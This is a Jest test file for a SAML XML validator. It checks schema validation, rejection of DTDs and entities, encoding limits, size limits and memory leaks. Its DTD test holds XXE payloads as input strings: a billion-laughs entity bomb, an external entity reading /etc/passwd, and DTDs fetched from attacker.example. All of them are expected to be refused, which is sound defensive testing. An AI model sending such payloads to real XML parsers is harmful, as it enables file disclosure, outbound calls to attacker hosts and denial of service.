/**
 * The SAML schema validator really rejects: schema violations, unexpected roots, DTDs and entities
 * (billion laughs, external entities) before parsing, other encodings, oversized and malformed
 * input; it accepts valid messages and metadata; and it does not leak over thousands of calls.
 */
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { createXmlValidator, XmlRejected } from '../../src/saml/validator.js';
import { sampleMessages } from '../../bench/lib/saml-messages.js';

const validator = createXmlValidator(100_000);
const request = (extra = '', issuer = 'https://sp.example.test') =>
  `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a1" Version="2.0" IssueInstant="2026-01-01T00:00:00Z"${extra}><saml:Issuer>${issuer}</saml:Issuer></samlp:AuthnRequest>`;

function reason(xml: string | Buffer, kind: 'protocol' | 'metadata' = 'protocol') {
  try {
    validator.validate(xml, kind);
    return 'valid';
  } catch (e) {
    if (!(e instanceof XmlRejected)) throw e;
    return e.reason;
  }
}

test('valid messages pass; schema violations and unexpected roots do not', async () => {
  const { response } = await sampleMessages();
  expect(reason(request())).toBe('valid');
  expect(reason(response)).toBe('valid');
  expect(reason(request(' Bogus="1"'))).toBe('invalid');
  expect(reason(request().replace('Version="2.0"', 'Version="2.0" ForceAuthn="maybe"'))).toBe('invalid');
  expect(reason(request().replace(' ID="_a1"', ''))).toBe('invalid'); // ID is required
  expect(reason(request().replace('IssueInstant="2026-01-01T00:00:00Z"', 'IssueInstant="yesterday"'))).toBe('invalid');
  expect(reason(request().replace(/samlp:AuthnRequest/g, 'samlp:Nonsense'))).toBe('invalid');
  const assertion =
    '<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a" Version="2.0" IssueInstant="2026-01-01T00:00:00Z"><saml:Issuer>x</saml:Issuer></saml:Assertion>';
  expect(reason(assertion)).toBe('invalid'); // valid under the schema set, but not a message we read
  expect(reason(request().replace(/urn:oasis:names:tc:SAML:2.0:protocol/, 'urn:example:other'))).toBe('invalid');
});

test('DTDs and entities are refused before parsing: billion laughs, external entities, parameter entities', () => {
  const laughs =
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>' +
    request('', '&c;');
  expect(reason(laughs)).toBe('dtd');
  expect(reason(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${request('', '&x;')}`)).toBe('dtd');
  expect(reason(`<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>${request()}`)).toBe('dtd');
  expect(reason(`<!DOCTYPE r SYSTEM "http://attacker.example/r.dtd">${request()}`)).toBe('dtd');
  expect(reason(`<?xml version="1.0"?>\n<!-- a comment --><!doctype r>${request()}`)).toBe('dtd');
  // An entity reference without a declaration is simply not well-formed.
  expect(reason(request('', '&undeclared;'))).toBe('malformed');
  // Comments and CDATA are fine.
  expect(reason(`<!-- hello -->${request('', '<![CDATA[https://sp.example.test]]>')}`)).toBe('valid');
});

test('encodings other than UTF-8 are refused (a UTF-16 document cannot hide a DOCTYPE)', () => {
  expect(reason(Buffer.from(`\uFEFF<!DOCTYPE r>${request()}`, 'utf16le'))).toBe('encoding');
  expect(reason(`<?xml version="1.0" encoding="UTF-16"?>${request()}`)).toBe('encoding');
  expect(reason(`<?xml version="1.0" encoding="ISO-8859-1"?>${request()}`)).toBe('encoding');
  expect(reason(Buffer.from([0x3c, 0x61, 0xff, 0xfe, 0x3e]))).toBe('encoding');
  expect(reason(`<?xml version="1.0" encoding="UTF-8"?>${request()}`)).toBe('valid');
});

test('oversized and malformed input', () => {
  expect(reason(request('', `https://sp.example.test/${'x'.repeat(100_001)}`))).toBe('too_large');
  expect(reason('<samlp:AuthnRequest')).toBe('malformed');
  expect(reason('')).toBe('malformed');
  expect(reason('just text')).toBe('malformed');
});

test('metadata documents are validated against the metadata schema', () => {
  const md = (inner: string) =>
    `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://sp.example.test"><md:SPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">${inner}</md:SPSSODescriptor></md:EntityDescriptor>`;
  const acs =
    '<md:AssertionConsumerService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://sp.example.test/acs" index="0"/>';
  expect(reason(md(acs), 'metadata')).toBe('valid');
  expect(reason(md(''), 'metadata')).toBe('invalid'); // an SP needs an ACS
  expect(reason(md(acs), 'protocol')).toBe('invalid');
  expect(reason(request(), 'metadata')).toBe('invalid');
});

test('no leak: 2000 calls on a signed response leave heap and RSS flat after garbage collection', async () => {
  setFlagsFromString('--expose-gc');
  const gc = runInNewContext('gc') as () => void;
  const settle = async () => {
    for (let i = 0; i < 4; i++) {
      gc();
      await new Promise((r) => setImmediate(r));
    }
  };
  const { response } = await sampleMessages();
  const round = () => {
    for (let i = 0; i < 2000; i++) validator.validate(response, 'protocol');
  };
  round(); // allocator and heap reach their working size
  await settle();
  const before = process.memoryUsage();
  round();
  round();
  await settle();
  const after = process.memoryUsage();
  // 4000 calls on a 6.8 KB message: a per-call leak of the message copy alone would be > 27 MB.
  expect((after.heapUsed - before.heapUsed) / 1048576).toBeLessThan(2);
  // RSS also moves with the allocator under a loaded run (11 MB seen once); still well under what a leak would add.
  expect((after.rss - before.rss) / 1048576).toBeLessThan(16);
});
